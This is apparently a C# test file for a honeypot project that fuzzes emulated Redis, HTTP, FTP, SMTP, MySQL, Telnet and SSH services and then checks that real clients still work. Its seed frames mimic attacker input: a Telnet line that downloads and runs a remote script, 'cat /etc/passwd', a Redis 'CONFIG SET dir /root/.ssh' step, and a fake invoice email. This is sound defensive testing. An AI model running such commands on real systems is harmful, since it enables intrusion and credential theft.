using System.Buffers.Binary;
using System.Text;
using Decnet.Core.Honeypots.Ftp;
using Decnet.Core.Honeypots.Http;
using Decnet.Core.Honeypots.Mysql;
using Decnet.Core.Honeypots.Redis;
using Decnet.Core.Honeypots.Smtp;
using Decnet.Core.Honeypots.Ssh;
using Decnet.Core.Honeypots.Telnet;
using Decnet.Tests.Infrastructure;

namespace Decnet.Tests.Honeypots.Fuzzing;

/// <summary>
/// One fuzz campaign per built-in protocol (see <see cref="ProtocolFuzzer"/>): random and mutated valid
/// frames at the real listener, then held unfinished messages measured on the heap, then a real client.
/// </summary>
[Trait("Category", "Integration")]
[Collection(ProcessMeasurementCollection.Name)]
[Trait("Category", TestCategories.Isolated)]
public sealed class BuiltInProtocolFuzzTests
{
    private static readonly string[] s_httpRequests =
    [
        "GET / HTTP/1.1\r\nHost: decky\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n",
        "POST /login HTTP/1.1\r\nHost: decky\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 27\r\n\r\nusername=admin&password=pw1",
        "POST /upload HTTP/1.1\r\nHost: decky\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
        "GET /wp-login.php?redirect_to=%2Fadmin HTTP/1.1\r\nHost: decky\r\nCookie: session=abc\r\nAuthorization: Basic YWRtaW46YWRtaW4=\r\n\r\n",
        "HEAD /robots.txt HTTP/1.0\r\n\r\n",
    ];

    private static async Task CurlServedAsync(FuzzTarget target, string scheme)
    {
        var result = await RealClient.RunAsync("curl", ["-sS", "-k", "--max-time", "20", "-o", "/dev/null", "-w", "%{http_code}", $"{scheme}://{target.Address}:{target.Port}/"]);
        Assert.True(result.ExitCode == 0, result.StdErr);
        Assert.Matches("^[1-5][0-9][0-9]$", result.StdOut);
    }

    [Fact]
    public Task Redis_survives_random_and_mutated_resp() => ProtocolFuzzer.RunAsync(new FuzzProtocol
    {
        Factory = new RedisHoneypotFactory(),
        ValidFrames =
        [
            Resp("PING"),
            Resp("AUTH", "hunter2"),
            Resp("INFO", "server"),
            Resp("SET", "session:1", "value"),
            Resp("KEYS", "*"),
            Resp("CONFIG", "SET", "dir", "/root/.ssh"),
            FuzzFrames.Ascii("PING inline\r\n"),
            Resp("QUIT"),
        ],
        RealClient = async target =>
        {
            var ping = await RealClient.RunAsync("redis-cli", ["-h", target.Address.ToString(), "-p", target.Port, "PING"]);
            Assert.Equal("PONG", ping.StdOut.Trim());
        },
    });

    private static byte[] Resp(params string[] parts)
    {
        var text = new StringBuilder().Append('*').Append(parts.Length).Append("\r\n");
        foreach (var part in parts)
        {
            text.Append('$').Append(Encoding.UTF8.GetByteCount(part)).Append("\r\n").Append(part).Append("\r\n");
        }
        return FuzzFrames.Ascii(text.ToString());
    }

    [Fact]
    public Task Http_survives_random_and_mutated_requests() => ProtocolFuzzer.RunAsync(new FuzzProtocol
    {
        Factory = new HttpHoneypotFactory(),
        ValidFrames = [.. s_httpRequests.Select(FuzzFrames.Ascii)],
        RealClient = target => CurlServedAsync(target, "http"),
    });

    [Fact]
    public Task Https_survives_random_and_mutated_requests_inside_and_outside_tls() => ProtocolFuzzer.RunAsync(new FuzzProtocol
    {
        Factory = new HttpsHoneypotFactory(),
        ValidFrames = [.. s_httpRequests.Select(FuzzFrames.Ascii)],
        Tls = true,
        Sessions = 80,
        RealClient = target => CurlServedAsync(target, "https"),
    });

    [Fact]
    public Task Ftp_survives_random_and_mutated_commands() => ProtocolFuzzer.RunAsync(new FuzzProtocol
    {
        Factory = new FtpHoneypotFactory(),
        // No PASV/PORT: a transfer command after them waits for a data connection the fuzzer never
        // opens (20 s); transfers are covered by the curl and lftp tests.
        ValidFrames = [.. FuzzFrames.Lines("USER anonymous", "PASS guest@example.com", "SYST", "FEAT", "PWD", "TYPE I", "CWD /pub", "SIZE README.txt",
            "LIST", "RETR README.txt", "STOR drop.sh", "MKD x", "RNFR a", "RNTO b", "REST 100", "QUIT")],
        RealClient = async target =>
        {
            var listing = await RealClient.RunAsync("curl", ["-sS", "--max-time", "20", "--user", "anonymous:x", $"ftp://{target.Address}:{target.Port}/"]);
            Assert.True(listing.ExitCode == 0, listing.StdErr);
            Assert.Contains("README.txt", listing.StdOut, StringComparison.Ordinal);
        },
    });

    private static readonly string[] s_smtpConversation =
    [
        "EHLO attacker.example", "AUTH LOGIN", "YWRtaW4=", "cGFzc3dvcmQ=", "MAIL FROM:<a@attacker.example> SIZE=1000",
        "RCPT TO:<ceo@corp.example>", "DATA", "Subject: invoice\r\nFrom: a@attacker.example\r\n\r\nplease pay", ".", "VRFY root", "RSET", "QUIT",
    ];

    private static async Task<RealClient.Result> CurlMailAsync(FuzzTarget target, params string[] options)
    {
        var mail = Path.Combine(target.Decky.Root, "mail.txt");
        await File.WriteAllTextAsync(mail, "Subject: after the fuzz\r\n\r\nstill served\r\n", TestContext.Current.CancellationToken);
        return await RealClient.RunAsync("curl", ["-sS", "--max-time", "20", .. options, "--mail-from", "a@example.com", "--mail-rcpt", "b@example.com", "-T", mail,
            $"smtp://{target.Address}:{target.Port}/"]);
    }

    [Fact]
    public Task Smtp_survives_random_and_mutated_commands() => ProtocolFuzzer.RunAsync(new FuzzProtocol
    {
        Factory = new SmtpHoneypotFactory(),
        ValidFrames = [.. FuzzFrames.Lines(s_smtpConversation)],
        RealClient = async target =>
        {
            // The credential harvester answers relaying with 554, as before the fuzz.
            var sent = await CurlMailAsync(target);
            Assert.Contains("554", sent.StdErr, StringComparison.Ordinal);
            await target.Decky.Sink.WaitForAsync("rcpt_denied", e => e.Field("address") == "b@example.com");
        },
    });

    [Fact]
    public Task Smtp_relay_survives_random_and_mutated_commands_and_message_bodies() => ProtocolFuzzer.RunAsync(new FuzzProtocol
    {
        // The open relay takes DATA: held sessions sit inside message bodies.
        Factory = new SmtpRelayHoneypotFactory(),
        ValidFrames = [.. FuzzFrames.Lines(s_smtpConversation)],
        RealClient = async target =>
        {
            var sent = await CurlMailAsync(target, "--user", "relay:relay123");
            Assert.True(sent.ExitCode == 0, sent.StdErr);
            await target.Decky.Sink.WaitForAsync("message_accepted", e => e.Field("subject") == "after the fuzz");
        },
    });

    [Fact]
    public Task Mysql_survives_random_and_mutated_packets() => ProtocolFuzzer.RunAsync(new FuzzProtocol
    {
        Factory = new MysqlHoneypotFactory(),
        ValidFrames = [HandshakeResponse(), MysqlPacket(3, [.. "Sup3rS3cret"u8, 0]), MysqlPacket(0, [0x03, .. "select @@version"u8]), MysqlPacket(0, [0x01]),
            MysqlPacket(1, SslRequest())],
        RealClient = async target =>
        {
            var login = await RealClient.RunAsync("mariadb", ["--protocol=TCP", "-h", target.Address.ToString(), "-P", target.Port, "--connect-timeout=10", "-u", "dba", "-pWrong1", "-e", "select 1"]);
            Assert.Contains("Access denied for user 'dba'", login.StdErr, StringComparison.Ordinal);
        },
    });

    private const uint ClientCapabilities = (uint)(MysqlCapabilities.LongPassword | MysqlCapabilities.Protocol41 | MysqlCapabilities.SecureConnection
        | MysqlCapabilities.PluginAuth | MysqlCapabilities.ConnectWithDb | MysqlCapabilities.ConnectAttrs | MysqlCapabilities.PluginAuthLenencClientData);

    private static byte[] MysqlPacket(byte sequence, byte[] payload)
    {
        var packet = new byte[payload.Length + 4];
        packet[0] = (byte)payload.Length;
        packet[1] = (byte)(payload.Length >> 8);
        packet[2] = (byte)(payload.Length >> 16);
        packet[3] = sequence;
        payload.CopyTo(packet, 4);
        return packet;
    }

    private static byte[] HandshakeResponse()
    {
        var payload = new List<byte>();
        var fixedPart = new byte[32];
        BinaryPrimitives.WriteUInt32LittleEndian(fixedPart, ClientCapabilities);
        BinaryPrimitives.WriteUInt32LittleEndian(fixedPart.AsSpan(4), 16 * 1024 * 1024);
        fixedPart[8] = 33;
        payload.AddRange(fixedPart);
        payload.AddRange([.. "root"u8, 0]);
        payload.Add(20);
        payload.AddRange(Enumerable.Range(1, 20).Select(i => (byte)(i * 7)));
        payload.AddRange([.. "billing"u8, 0]);
        payload.AddRange([.. "mysql_native_password"u8, 0]);
        byte[] attributes = [12, .. "_client_name"u8, 10, .. "libmariadb"u8];
        payload.Add((byte)attributes.Length);
        payload.AddRange(attributes);
        return MysqlPacket(1, [.. payload]);
    }

    private static byte[] SslRequest()
    {
        var payload = new byte[32];
        BinaryPrimitives.WriteUInt32LittleEndian(payload, ClientCapabilities | (uint)MysqlCapabilities.Ssl);
        return payload;
    }

    [Fact]
    public Task Telnet_survives_random_and_mutated_negotiation_and_shell_input() => ProtocolFuzzer.RunAsync(new FuzzProtocol
    {
        Factory = new TelnetServiceFactory(),
        Persona = new Dictionary<string, string> { ["failure_delay_ms"] = "0" },
        ValidFrames =
        [
            [TelnetStream.Iac, TelnetStream.Do, TelnetStream.Echo, TelnetStream.Iac, TelnetStream.Do, TelnetStream.SuppressGoAhead, TelnetStream.Iac, TelnetStream.Will, TelnetStream.WindowSize],
            [TelnetStream.Iac, TelnetStream.Sb, TelnetStream.WindowSize, 0, 100, 0, 40, TelnetStream.Iac, TelnetStream.Se],
            .. FuzzFrames.Lines("root", "admin", "uname -a", "cat /etc/passwd", "wget http://203.0.113.5/x.sh -O /tmp/x.sh; sh /tmp/x.sh", "history", "exit"),
        ],
        RealClient = async target =>
        {
            // curl speaks Telnet (IAC negotiation included) and sends its stdin as the keystrokes.
            var session = await RealClient.RunAsync("curl", ["-sS", "--max-time", "15", $"telnet://{target.Address}:{target.Port}"],
                stdin: "root\r\nadmin\r\necho fuzz-survived\r\nexit\r\n");
            Assert.Contains("fuzz-survived", session.StdOut, StringComparison.Ordinal);
        },
    });

    [Fact]
    public Task Ssh_survives_random_and_mutated_transport_packets() => ProtocolFuzzer.RunAsync(new FuzzProtocol
    {
        Factory = new SshServiceFactory(),
        ValidFrames =
        [
            FuzzFrames.Ascii("SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n"),
            SshPacket(new SshWriter().Byte(SshMessage.KexInit).Raw(new byte[16]).String("curve25519-sha256,ext-info-c,kex-strict-c-v00@openssh.com")
                .String("ssh-ed25519,rsa-sha2-512").String("aes128-ctr").String("aes128-ctr").String("hmac-sha2-256").String("hmac-sha2-256")
                .String("none").String("none").String("").String("").Boolean(false).UInt32(0).ToArray()),
            SshPacket(new SshWriter().Byte(SshMessage.KexEcdhInit).Binary(Enumerable.Range(0, 32).Select(i => (byte)(i * 5 + 9)).ToArray()).ToArray()),
            SshPacket(new SshWriter().Byte(SshMessage.NewKeys).ToArray()),
            SshPacket(new SshWriter().Byte(SshMessage.ServiceRequest).String("ssh-userauth").ToArray()),
            SshPacket(new SshWriter().Byte(SshMessage.Ignore).String("padding").ToArray()),
        ],
        RealClient = async target =>
        {
            var result = await ClientProcess.RunAsync("sshpass", ["-p", "admin", "ssh", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
                "-o", "ConnectTimeout=30", "-o", "PubkeyAuthentication=no", "-p", target.Port, $"root@{target.Address}", "echo fuzz-survived"]);
            Assert.True(result.Stdout.Contains("fuzz-survived", StringComparison.Ordinal), result.Stderr);
        },
    });

    /// <summary>A cleartext binary packet: length, padding length, payload, padding to a multiple of 8.</summary>
    private static byte[] SshPacket(byte[] payload)
    {
        var padding = 8 - ((payload.Length + 5) % 8);
        if (padding < 4)
        {
            padding += 8;
        }
        var packet = new byte[5 + payload.Length + padding];
        BinaryPrimitives.WriteUInt32BigEndian(packet, (uint)(packet.Length - 4));
        packet[4] = (byte)padding;
        payload.CopyTo(packet, 5);
        return packet;
    }
}
